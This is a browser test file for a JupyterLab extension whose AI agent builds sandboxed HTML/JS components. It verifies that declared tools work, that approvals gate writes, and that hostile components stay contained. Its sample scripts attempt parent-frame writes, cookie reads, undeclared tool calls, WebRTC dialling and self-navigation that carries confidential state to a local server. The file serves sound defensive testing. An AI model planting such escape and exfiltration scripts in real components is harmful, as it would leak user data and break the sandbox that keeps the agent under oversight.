"""Components the agent builds, in a real JupyterLab 4 driven by Playwright on Chromium.

The model's HTML/CSS/JS runs in a sandboxed frame: what the tests click is inside that
frame (the component's own buttons) and outside it (the Submit the widget adds).
"""

from __future__ import annotations

import html
import http.server
import json
import socket
import threading
import time
from collections.abc import Iterator
from typing import Any

import pytest

from agent_kernel.testing import call, say
from tests.support.browser import cell, run_notebook, save_screenshot, wait_idle
from tests.support.calls import result_text, tool_results
from tests.support.capabilities import needs_widget_replies

pytestmark = [pytest.mark.browser, pytest.mark.xdist_group("browser-2"), needs_widget_replies]


def component_frame(card):
    """The component's own frame: inside our frame, inside the widget's card."""
    return card.frame_locator("iframe.ak-component-frame").frame_locator("iframe")


TALLY_HTML = """
<h3 id=title>Tally v1</h3>
<button id=add>Add one</button> <button id=ask>Ask the database</button> <button id=sneak>Run code</button>
<p>Count: <b id=count>0</b></p><p id=answer>no answer yet</p><p id=refused></p>
"""
TALLY_CSS = "body { font-family: sans-serif; } #count { color: #0969da; } button { margin-right: 6px; }"
TALLY_JS = """
const show = () => { document.getElementById('count').textContent = ak.state.count; };
document.getElementById('add').onclick = () => { ak.setState({ count: ak.state.count + 1 }); show(); };
document.getElementById('ask').onclick = () => ak.call('db_sql', { sql: 'SELECT 6 * 7 AS answer' })
  .then((r) => { document.getElementById('answer').textContent = 'answer: ' + JSON.stringify(r.rows || r); });
document.getElementById('sneak').onclick = () => ak.call('run_code', { code: 'sneaked = 1' })
  .catch((e) => { document.getElementById('refused').textContent = e.message; });
show();
"""
TALLY = {
    "name": "tally",
    "description": "A counter that can ask the database.",
    "html": TALLY_HTML,
    "css": TALLY_CSS,
    "js": TALLY_JS,
    "state": {"count": 0},
    "tools": ["db_sql"],
}


def test_a_component_renders_calls_its_declared_tool_and_returns_what_was_submitted(lab_page, jupyterlab, lab_model):
    page = lab_page
    start = len(lab_model.requests)
    lab_model.add(
        call("create_ui_component", **TALLY),
        call("render_and_wait", component="tally", height=200),
        call("update_ui_component", name="tally", html=TALLY_HTML.replace("Tally v1", "Tally v2")),
        call("read_ui_component", name="tally", version=1),
        call("render_blocks", blocks=[{"type": "component", "name": "tally", "height": 200}]),
        say("All done."),
    )
    run_notebook(page, jupyterlab, "components", ["%load_ext agent_kernel", "%agent build me a tally"])
    agent_cell = cell(page, 1)
    card = agent_cell.locator(".ak-component").first
    card.wait_for(timeout=60_000)
    assert "tally · version 1" in card.inner_text()
    assert "Made by the agent in session" in card.inner_text() and "no untrusted content" in card.inner_text()
    frame_element = card.locator("iframe.ak-component-frame")
    assert frame_element.get_attribute("sandbox") == "allow-scripts"
    inner_element = card.frame_locator("iframe.ak-component-frame").locator("iframe")
    assert inner_element.get_attribute("sandbox") == "allow-scripts"
    frame = component_frame(card)
    frame.locator("#add").click()
    frame.locator("#add").click()
    frame.locator("#count").filter(has_text="2").wait_for(timeout=10_000)
    frame.locator("#ask").click()
    frame.get_by_text("answer: ").wait_for(timeout=30_000)
    assert "42" in frame.locator("#answer").inner_text()
    frame.locator("#sneak").click()
    frame.get_by_text("is not declared by this component").wait_for(timeout=30_000)
    save_screenshot(card, "component.png", readme=True)
    card.get_by_role("button", name="Submit").click()

    agent_cell.get_by_text("All done.").wait_for(timeout=60_000)
    wait_idle(page)
    submitted = json.loads(result_text(tool_results(lab_model.requests[start + 2])[0]))
    assert submitted == {"action": "submit", "state": {"count": 2}}
    first = json.loads(result_text(tool_results(lab_model.requests[start + 4])[0]))
    assert first["version"] == 1 and "Tally v1" in first["html"]
    # The answered component is a static record now; the second version shows live.
    assert "tally · version 1 · Submitted" in agent_cell.locator(".agent-kernel-component-static").first.inner_text()
    live = agent_cell.locator(".ak-component")
    assert live.count() == 1 and "tally · version 2" in live.inner_text()
    component_frame(live).get_by_text("Tally v2").wait_for(timeout=30_000)

    # The saved notebook holds the static record and no script.
    page.evaluate("() => window.jupyterapp.commands.execute('docmanager:save')")
    page.wait_for_function("() => !document.querySelector('.jp-mod-dirty')", timeout=15_000)
    saved = json.loads((jupyterlab.root / "components.ipynb").read_text())
    outputs = [o for c in saved["cells"] for o in c.get("outputs", [])]
    html = [o["data"]["text/html"] for o in outputs if "text/html" in o.get("data", {})]
    markup = "".join(h if isinstance(h, str) else "".join(h) for h in html)
    assert "agent-kernel-component-static" in markup and "tally · version 1</strong>" in markup
    assert "· Submitted" in markup and "tally · version 2</strong>" in markup
    assert "<script" not in markup.lower() and "<iframe" not in markup.lower()


HOSTILE_JS = """
const report = [];
const attempt = (label, action) => { try { report.push(label + ': ' + action()); } catch (e) { report.push(label + ': blocked'); } };
attempt('parent.document', () => typeof parent.document.body);
attempt('parent write', () => { window.parent.__akPwned = 1; return 'written'; });
attempt('top write', () => { top.__akPwned = 1; return 'written'; });
attempt('cookie', () => 'read ' + document.cookie);
attempt('storage', () => { localStorage.setItem('k', 'v'); return 'written'; });
attempt('require', () => typeof parent.require);
attempt('jupyterapp', () => typeof parent.jupyterapp.serviceManager);
attempt('top navigation', () => { top.location = 'http://127.0.0.1:9/escaped'; return 'navigated'; });
fetch('MARKER').then(() => report.push('fetch: read')).catch(() => report.push('fetch: blocked'))
  .then(() => ak.call('run_code', { code: 'pwned = 1' }))
  .then(() => report.push('run_code: ran'), (e) => report.push('run_code: ' + e.message))
  .then(() => {
    document.getElementById('out').textContent = report.join('\\n');
    ak.send('report', report);
    setTimeout(() => { location.href = 'about:blank'; }, 1500);
  });
"""


def test_a_hostile_component_reaches_nothing_and_is_removed_when_it_navigates(lab_page, jupyterlab, lab_model):
    page = lab_page
    requested: list[str] = []
    page.on("request", lambda request: requested.append(request.url))
    marker = f"{jupyterlab.url}/api/contents?ak-component-fetch-marker"
    start = len(lab_model.requests)
    lab_model.add(
        call(
            "render_and_wait",
            html="<pre id=out>running</pre>",
            js=HOSTILE_JS.replace("MARKER", marker),
            messages=["report"],
        ),
        say("Seen."),
        say("Read the report."),
    )
    run_notebook(
        page, jupyterlab, "hostile", ["%load_ext agent_kernel", "%agent show it", "%agent what did it report?"]
    )
    agent_cell = cell(page, 1)
    agent_cell.get_by_text("the component tried to navigate and was removed").wait_for(timeout=60_000)
    agent_cell.get_by_text("Seen.").wait_for(timeout=60_000)
    cell(page, 2).get_by_text("Read the report.").wait_for(timeout=60_000)
    wait_idle(page)
    assert page.evaluate("() => [window.__akPwned, window.top.__akPwned]") == [None, None]
    assert "/escaped" not in page.url and page.url.startswith(jupyterlab.url)
    assert not [url for url in requested if "ak-component-fetch-marker" in url or "/escaped" in url]
    answer = json.loads(result_text(tool_results(lab_model.requests[start + 1])[0]))
    assert answer["action"] == "dismiss" and "navigate" in answer["reason"]
    context = lab_model.requests[start + 2]["messages"][-1]["content"][0]["text"]
    assert "A message from the UI component 'inline'" in context
    report = json.loads(context.split("report: ", 1)[1].split("\n", 1)[0].split("<", 1)[0])
    found = {line.split(": ", 1)[0]: line.split(": ", 1)[1] for line in report}
    # A sandboxed frame's top navigation is ignored or throws, by browser version: the page stayed put (above).
    assert found.pop("top navigation") in ("blocked", "navigated")
    assert found | {"run_code": ""} == {
        "parent.document": "blocked",
        "parent write": "blocked",
        "top write": "blocked",
        "cookie": "blocked",
        "storage": "blocked",
        "require": "blocked",
        "jupyterapp": "blocked",
        "fetch": "blocked",
        "run_code": "",
    }
    assert any(line.startswith("run_code: Refused: tool 'run_code' is not declared") for line in report)


def test_in_ask_mode_a_components_writing_call_waits_for_the_approval_card(lab_page, jupyterlab, lab_model):
    page = lab_page
    start = len(lab_model.requests)
    lab_model.add(
        call(
            "render_and_wait",
            html="<button id=go>Compute</button><p id=out>idle</p>",
            tools=["run_code"],
            js="document.getElementById('go').onclick = () => ak.call('run_code', {code: 'approved = 6 * 7'})"
            ".then((r) => { document.getElementById('out').textContent = 'ran: ' + r.success; },"
            " (e) => { document.getElementById('out').textContent = e.message; });",
        ),
        say("Finished."),
    )
    run_notebook(page, jupyterlab, "ask", ["%load_ext agent_kernel", "%agent --approve ask compute with me"])
    agent_cell = cell(page, 1)
    card = agent_cell.locator(".ak-component").first
    card.wait_for(timeout=60_000)
    frame = component_frame(card)
    frame.locator("#go").click()
    approval = agent_cell.locator(".ak-choice").filter(has_text="approved = 6 * 7")
    approval.wait_for(timeout=30_000)
    assert "Allow run_code?" in approval.inner_text()
    approval.get_by_role("button", name="Run").click()
    frame.get_by_text("ran: true").wait_for(timeout=30_000)
    card.get_by_role("button", name="Submit").click()
    agent_cell.get_by_text("Finished.").wait_for(timeout=60_000)
    wait_idle(page)
    answer = json.loads(result_text(tool_results(lab_model.requests[start + 1])[0]))
    assert answer == {"action": "submit", "state": {}}


# -- the network the frame must not reach: WebRTC and its own navigation --------------------


@pytest.fixture
def udp_listener() -> Iterator[socket.socket]:
    """A UDP socket on 127.0.0.1 standing in for a STUN/TURN server; what reaches it stays queued."""
    listener = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    listener.bind(("127.0.0.1", 0))
    listener.setblocking(False)
    try:
        yield listener
    finally:
        listener.close()


def datagrams(listener: socket.socket) -> list[bytes]:
    """The datagrams queued at ``listener`` since the last look."""
    got = []
    while True:
        try:
            got.append(listener.recv(65536))
        except BlockingIOError:
            return got


class Recorder(http.server.BaseHTTPRequestHandler):
    """Records every request's path, whatever its method, and answers 200."""

    paths: list[str]

    def _record(self) -> None:
        self.paths.append(self.path)
        body = b"recorded"
        self.send_response(200)
        self.send_header("Content-Type", "text/html")
        self.send_header("Content-Length", str(len(body)))
        self.end_headers()
        self.wfile.write(body)

    do_GET = do_POST = do_HEAD = _record

    def log_message(self, *args: object) -> None:
        pass


@pytest.fixture
def recording_server() -> Iterator[tuple[str, list[str]]]:
    """An HTTP server on 127.0.0.1 that records the paths it is asked for."""
    paths: list[str] = []
    handler = type("Recording", (Recorder,), {"paths": paths})
    server = http.server.ThreadingHTTPServer(("127.0.0.1", 0), handler)
    thread = threading.Thread(target=server.serve_forever, daemon=True)
    thread.start()
    try:
        yield f"http://127.0.0.1:{server.server_address[1]}", paths
    finally:
        server.shutdown()
        server.server_close()


# The script a frame runs to reach the listener: a STUN binding and a TURN allocation
# (ICE gathering starts once the local description is set).
DIAL = """function dial(W) {
  try {
    var pc = new W.RTCPeerConnection({ iceServers: [
      { urls: 'stun:127.0.0.1:PORT' },
      { urls: 'turn:127.0.0.1:PORT?transport=udp', username: 'u', credential: 'p' } ] });
    pc.createDataChannel('out');
    pc.createOffer().then(function (offer) { return pc.setLocalDescription(offer); });
    return 'dialled';
  } catch (e) { return 'refused: ' + e.name; }
}"""
# A frame's own script dials and tells its parent (the component) what happened.
NESTED_DIAL = DIAL + " parent.postMessage({ nested: 'LABEL', result: dial(window) }, '*');"
PEER_JS = """
const report = {};
window.addEventListener('message', (event) => {
  if (event.data && event.data.nested) report[event.data.nested] = event.data.result;
});
report.here = dial(window);
report.webkit = typeof webkitRTCPeerConnection;
// A fresh window's constructor: a blank frame of our own; and frames running their own script.
const blank = document.createElement('iframe');
document.body.appendChild(blank);
try { report['blank frame'] = dial(blank.contentWindow); } catch (e) { report['blank frame'] = 'refused: ' + e.name; }
const nested = document.createElement('iframe');
nested.srcdoc = '<scr' + 'ipt>' + SRCDOC_SCRIPT + '</scr' + 'ipt>';
document.body.appendChild(nested);
const viaUrl = document.createElement('iframe');
viaUrl.src = 'javascript:' + JSON.stringify('<scr' + 'ipt>' + URL_SCRIPT + '</scr' + 'ipt>');
document.body.appendChild(viaUrl);
setTimeout(() => { document.getElementById('out').textContent = 'done ' + JSON.stringify(report); }, 3000);
"""
# The Jupyter page itself dials: the control that the listener hears Chromium's STUN.
PAGE_DIALS = """(port) => {
  const pc = new RTCPeerConnection({ iceServers: [{ urls: 'stun:127.0.0.1:' + port }] });
  pc.createDataChannel('control');
  window.__akControl = pc;
  return pc.createOffer().then((offer) => pc.setLocalDescription(offer));
}"""


def peer_component(port: int) -> dict[str, str]:
    """An inline component that tries every way to a peer connection it has to the listener."""
    dial = DIAL.replace("PORT", str(port))

    def nested(label: str) -> str:
        return NESTED_DIAL.replace("PORT", str(port)).replace("LABEL", label).replace("\n", " ")

    js = dial + PEER_JS.replace("SRCDOC_SCRIPT", json.dumps(nested("srcdoc frame"))).replace(
        "URL_SCRIPT", json.dumps(nested("javascript: frame"))
    )
    framed = html.escape("<script>" + nested("markup frame") + "</script>")
    markup = f'<pre id=out>running</pre><iframe srcdoc="{framed}"></iframe>'
    return {"html": markup, "js": js}


def test_a_component_reaches_no_peer_connection_whatever_window_it_takes_it_from(
    lab_page, jupyterlab, lab_model, udp_listener
):
    page = lab_page
    port = udp_listener.getsockname()[1]
    lab_model.add(
        call("render_blocks", blocks=[{"type": "component", "height": 200, **peer_component(port)}]),
        say("Shown."),
    )
    run_notebook(page, jupyterlab, "peer", ["%load_ext agent_kernel", "%agent show it"])
    agent_cell = cell(page, 1)
    agent_cell.get_by_text("Shown.").wait_for(timeout=60_000)
    out = component_frame(agent_cell.locator(".ak-component").first).locator("#out")
    out.filter(has_text="done").wait_for(timeout=30_000)
    time.sleep(2)  # ICE gathering that began would have sent by now
    report = json.loads(out.inner_text().split("done ", 1)[1])
    assert datagrams(udp_listener) == [], report
    assert report["here"] == "refused: TypeError" and report["webkit"] == "undefined"
    assert report["blank frame"].startswith("refused: ")
    assert not {"srcdoc frame", "javascript: frame", "markup frame"} & set(report)  # their scripts never ran
    wait_idle(page)

    # Control: the Jupyter page's own peer connection reaches the listener.
    page.evaluate(PAGE_DIALS, port)
    deadline = time.monotonic() + 15
    while not datagrams(udp_listener) and time.monotonic() < deadline:
        time.sleep(0.2)
    assert time.monotonic() < deadline, "the control's STUN binding never reached the listener"


NAVIGATIONS = {
    "location": ("<p>location</p>", "location.href = TARGET;"),
    "meta refresh": (
        "<p>meta refresh</p>",
        "const m = document.createElement('meta'); m.httpEquiv = 'refresh'; m.content = '0;url=' + TARGET;"
        " document.head.appendChild(m);",
    ),
    "form": (
        "<form id=f method=get action=SERVER/selfnav><input type=hidden name=state value=form></form>",
        "document.getElementById('f').elements.state.value = JSON.stringify(ak.state);"
        " document.getElementById('f').submit();",
    ),
    "anchor": ("<a id=a href=#>anchor</a>", "const a = document.getElementById('a'); a.href = TARGET; a.click();"),
    "anchor to the top": (
        "<a id=a target=_top href=#>top</a>",
        "const a = document.getElementById('a'); a.href = TARGET; a.click();",
    ),
    "window.open": ("<p>open</p>", "window.open(TARGET);"),
}


def navigating_component(way: str, server: str) -> dict[str, Any]:
    """An inline component that says it is about to navigate ``way`` to ``server``, carrying its state."""
    markup, navigate = NAVIGATIONS[way]
    target = json.dumps(f"{server}/selfnav?way={way}")
    js = (
        f"const TARGET = {target} + '&state=' + encodeURIComponent(JSON.stringify(ak.state));"
        f" ak.send('navigating', {json.dumps(way)}); setTimeout(() => {{ {navigate} }}, 300);"
    )
    return {
        "type": "component",
        "name": "way_" + way.replace(" ", "_").replace(".", "_"),
        "height": 60,
        "html": markup.replace("SERVER", server),
        "js": js,
        "messages": ["navigating"],
        "state": {"sales": "CONFIDENTIAL-ROWS-42"},
    }


def test_a_component_that_navigates_itself_sends_no_request(lab_page, jupyterlab, lab_model, recording_server):
    page = lab_page
    server, paths = recording_server
    start = len(lab_model.requests)
    lab_model.add(
        call("render_blocks", blocks=[navigating_component(way, server) for way in NAVIGATIONS]),
        call("render_and_wait", html="<p>Press Submit when they are done.</p>", height=60),
        say("Shown."),
        say("Noted."),
    )
    cells = ["%load_ext agent_kernel", "%agent show them", "%agent what did they say?"]
    run_notebook(page, jupyterlab, "selfnav", cells)
    agent_cell = cell(page, 1)
    gate = agent_cell.locator(".ak-component").filter(has_text="inline (inline component)")
    gate.get_by_role("button", name="Submit").wait_for(timeout=60_000)
    notices = agent_cell.locator(".ak-component-notice").filter(has_text="tried to navigate")
    notices.nth(1).wait_for(timeout=30_000)  # location and meta refresh loaded a document in place of theirs
    time.sleep(2)  # the other ways had their chance too
    gate.get_by_role("button", name="Submit").click()
    agent_cell.get_by_text("Shown.").wait_for(timeout=60_000)
    cell(page, 2).get_by_text("Noted.").wait_for(timeout=60_000)
    wait_idle(page)
    assert paths == []
    assert page.url.startswith(jupyterlab.url) and len(page.context.pages) == 1
    # Each component's script ran up to its navigation (its message reached the next turn).
    context = lab_model.requests[start + 3]["messages"][-1]["content"][0]["text"]
    for way in NAVIGATIONS:
        assert f"navigating: {json.dumps(way)}" in context

    # Control: a request from the Jupyter page reaches the recorder.
    page.evaluate("(url) => fetch(url, { mode: 'no-cors' })", server + "/control")
    deadline = time.monotonic() + 10
    while paths != ["/control"] and time.monotonic() < deadline:
        time.sleep(0.1)
    assert paths == ["/control"]
